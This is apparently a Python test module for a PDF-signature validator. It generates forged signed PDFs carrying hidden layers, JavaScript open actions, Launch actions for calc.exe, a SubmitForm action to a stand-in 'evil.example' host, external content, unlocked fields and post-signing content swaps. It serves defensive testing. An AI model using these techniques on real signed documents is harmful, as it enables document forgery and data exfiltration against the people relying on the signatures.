"""What a server might be tricked into rendering: revision 0 itself is not what it seems.

The seals on it are true and the evidence agrees; but what such a page shows can depend on a
viewer's choice, on a script or on another file, and so it was never one thing that was read.
"""

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

from tests.attacks import library_signing, library_updates
from tests.attacks.honest import Honest, drawn, seal_for
from tests.attacks.structures import EVIL, stream
from tests.attacks.table import forgery

Harm = Callable[[Any], None]
ACTIVE = "active-content"


def rendered_with(honest: Honest, harm: Harm | None = None) -> bytes:
    """Revision 0 with something else in it, under a table in the form of our own."""
    with pikepdf.open(BytesIO(honest.rendered)) as pdf:
        if harm:
            harm(pdf)
        out = BytesIO()
        plain = pikepdf.ObjectStreamMode.disable
        pdf.save(out, object_stream_mode=plain, fix_metadata_version=False, force_version="1.7")
    reader = PdfFileReader(out)
    size = int(reader.trailer["/Size"])
    body, places = b"%PDF-1.7\n%\xf0\x9f\x96\xa4\n", {}
    for number in range(1, size):
        places[number] = len(body)
        written = BytesIO()
        reader.get_object(generic.Reference(number, 0, reader)).write_to_stream(written, None)
        body += b"%d 0 obj\n%b\nendobj\n" % (number, written.getvalue())
    start = len(body)
    rows = b"\0" * 5 + b"".join(b"\1" + places[n].to_bytes(4, "big") for n in range(1, size))
    head = b"/Type /XRef /W [1 4 0] /Index [0 %d] /Size %d /Root %d 0 R /Info %d 0 R /ID [%b]" % (
        size + 1, size + 1, reader.root_ref.idnum, reader.trailer.raw_get("/Info").idnum,
        b"".join(b"<%b>" % part.hex().encode() for part in reader.document_id),
    )  # fmt: skip
    table = stream(size, head, rows + b"\1" + start.to_bytes(4, "big"))
    return body + table + b"startxref\n%d\n%%%%EOF\n" % start


@contextmanager
def meanwhile(work: Callable[[Any], None]) -> Iterator[None]:
    """What else happens in the revision of the manager's seal."""
    attach = library_updates.attach

    def attach_and_work(writer: Any, **file: Any) -> None:
        work(writer)
        attach(writer, **file)

    library_updates.attach = attach_and_work
    try:
        yield
    finally:
        library_updates.attach = attach


def sealed(honest: Honest, harm: Harm | None = None) -> bytes:
    revision0 = rendered_with(honest, harm)
    return seal_for(honest.basic, revision0, revision0, by=library_signing)


def rendering(*reasons: str) -> Callable[[Harm], Harm]:
    def enter(harm: Harm) -> Harm:
        @forgery(*reasons, on=["signed"], name=f"{harm.__name__}/rendered")
        def forge(honest: Honest, _pdf: bytes) -> bytes:
            return sealed(honest, harm)

        return harm

    return enter


def link(pdf: Any, **action: Any) -> None:
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=Dictionary(**action)
    )
    page = pdf.pages[0]
    page.Annots = Array([*page.get("/Annots", Array()), pdf.make_indirect(annotation)])


@rendering(ACTIVE)
def layer_shadow(pdf):
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("x")))
    pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))


@rendering(ACTIVE)
def layer_without_properties(pdf):
    pdf.pages[0].Resources.Properties = Dictionary(L=Dictionary(Type=Name.OCG, Name=String("x")))


@rendering(ACTIVE)
def script_at_opening(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


@rendering(ACTIVE)
def script_by_name(pdf):
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("a"), action]))


@rendering(ACTIVE)
def program_behind_a_link(pdf):
    link(pdf, S=Name.Launch, F=String("calc.exe"))


@rendering(ACTIVE)
def program_behind_the_next_action(pdf):
    then = Dictionary(S=Name.Launch, F=String("calc.exe"))
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def file_sent_by_the_next_actions(pdf):
    then = Array([Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))])
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def program_named_in_an_object_of_its_own(pdf):
    then = Dictionary(S=pdf.make_indirect(Name.Launch), F=String("calc.exe"))
    link(pdf, S=Name.URI, URI=String("https://example.com"), Next=then)


@rendering(ACTIVE)
def layer_named_in_an_object_of_its_own(pdf):
    layer = Dictionary(Type=pdf.make_indirect(Name.OCG), Name=String("x"))
    pdf.pages[0].Resources.Properties = Dictionary(L=layer)


@rendering(ACTIVE)
def content_from_another_file(pdf):
    stream = pdf.make_stream(b"")
    stream.F = String("outside.bin")
    pdf.pages[0].Contents = Array([pdf.pages[0].Contents, stream])


@rendering(ACTIVE)
def page_of_another_file(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Ref = Dictionary(F=String("other.pdf"), Page=0)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


@rendering(ACTIVE)
def program_in_a_picture(pdf):
    form = pdf.make_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


@rendering(ACTIVE)
def note_over_the_text(pdf):
    note = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=[0, 0, 99, 99])
    pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", Array()), pdf.make_indirect(note)])


@rendering("unexpected-field")
def field_to_fill(pdf):
    field = Dictionary(
        FT=Name.Tx, T=String("amount"), Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9]
    )
    pdf.Root.AcroForm.Fields.append(pdf.make_indirect(field))


@rendering("not-locking")
def field_without_lock(pdf):
    del pdf.Root.AcroForm.Fields[1]["/Lock"]


@rendering("not-locking")
def field_with_a_lock_for_the_document(pdf):
    pdf.Root.AcroForm.Fields[1].Lock.P = 1


@rendering("not-locking")
def field_with_a_lock_for_some_fields(pdf):
    pdf.Root.AcroForm.Fields[1].Lock.Action = Name.Exclude
    pdf.Root.AcroForm.Fields[1].Lock.Fields = Array([String("CompanySeal")])


@rendering(ACTIVE)
def form_of_another_kind(pdf):
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")


@rendering(ACTIVE)
def link_with_a_border_over_the_text(pdf):
    link(pdf, S=Name.URI, URI=String("https://example.com"))
    pdf.pages[0].Annots[-1].Border = Array([0, 0, 400])
    pdf.pages[0].Annots[-1].C = Array([1, 1, 1])


@rendering(ACTIVE)
def font_that_is_not_in_the_file(pdf):
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    pdf.pages[0].Resources.Font.Z = pdf.make_indirect(font)


@rendering(ACTIVE)
def font_without_its_outlines(pdf):
    font = pdf.pages[0].Resources.Font
    descriptor = next(iter(font.values())).DescendantFonts[0].FontDescriptor
    for key in ("/FontFile2", "/FontFile3"):
        if key in descriptor:
            del descriptor[key]


@rendering(ACTIVE)
def program_in_a_form(pdf):
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Subtype2=Name.PS)
    pdf.pages[0].Resources.XObject = Dictionary(X=form)


@rendering(ACTIVE)
def page_with_pages_in_it(pdf):
    other = Dictionary(Type=Name.Page, Parent=pdf.pages[0].obj, MediaBox=[0, 0, 595, 842])
    pdf.pages[0].obj.Kids = Array([pdf.make_indirect(other)])


@rendering("unexpected-field")
def picture_under_the_mouse(pdf):
    field = pdf.Root.AcroForm.Fields[1]
    field.AP.R = field.AP.N


@forgery("unreadable", on=["signed"])
def identifier_in_an_object_of_its_own(honest, _pdf):
    """Where a later revision could put another in its place."""

    def harm(pdf):
        pdf.Root.Kept = pdf.make_indirect(Array(pdf.trailer.ID))

    made = rendered_with(honest, harm)
    number = re.search(rb"/Kept (\d+) 0 R", made)[1]
    revision0 = re.sub(rb"/ID \[[^\]]*\]", b"/ID %b 0 R" % number, made)
    return seal_for(honest.basic, revision0, revision0, by=library_signing)


# --- What is left open in revision 0, and filled in with the seal ---------------------------------
@forgery("unexpected-field", on=["signed"])
def box_as_large_as_the_page(honest, _pdf):
    def harm(pdf):
        field = pdf.Root.AcroForm.Fields[0]
        field.Rect, field.P = Array([0, 0, 595, 842]), pdf.pages[0].obj

    revision0 = rendered_with(honest, harm)
    return seal_for(honest.basic, revision0, revision0, appearance=drawn("Other"))


@forgery("unreadable", on=["signed"])
def page_that_comes_with_the_seal(honest, _pdf):
    """The page refers to an object that is not there yet."""

    def harm(pdf):
        pdf.pages[0].Contents = Array([pdf.pages[0].Contents, pdf.make_stream(b"% nothing")])

    made = rendered_with(honest, harm)
    found = re.search(rb"/Contents \[ \d+ 0 R (\d+) 0 R \]", made)
    later = found[0].replace(b" %b 0 R ]" % found[1], b" 99 0 R ]")
    revision0 = made.replace(found[0], later)

    def add(writer):
        writer._lastobj_id = 98
        writer.add_object(generic.StreamObject(stream_data=EVIL))

    with meanwhile(add):
        return seal_for(honest.basic, revision0, revision0, by=library_signing)


def _hinted(place: str) -> None:
    """What may change freely refers to what the page shows."""

    reasons = ("unexpected-change", "unreadable", ACTIVE)

    @forgery(*reasons, on=["signed"], name=f"page as a hint in {place}")
    def forge(honest, _pdf):
        def harm(pdf):
            if place == "DSS":
                pdf.Root.DSS = Dictionary(Type=Name.DSS, Certs=pdf.pages[0].obj.Contents)
            else:
                pdf.Root.AcroForm.SigFlags = pdf.pages[0].obj.Contents

        def rewrite(writer):
            shown = writer.root["/Pages"]["/Kids"][0]["/Contents"]
            shown._data, shown._encoded_data = EVIL, None
            writer.update_container(shown)

        revision0 = rendered_with(honest, harm)
        with meanwhile(rewrite):
            return seal_for(honest.basic, revision0, revision0, by=library_signing)


_hinted("DSS")
_hinted("SigFlags")
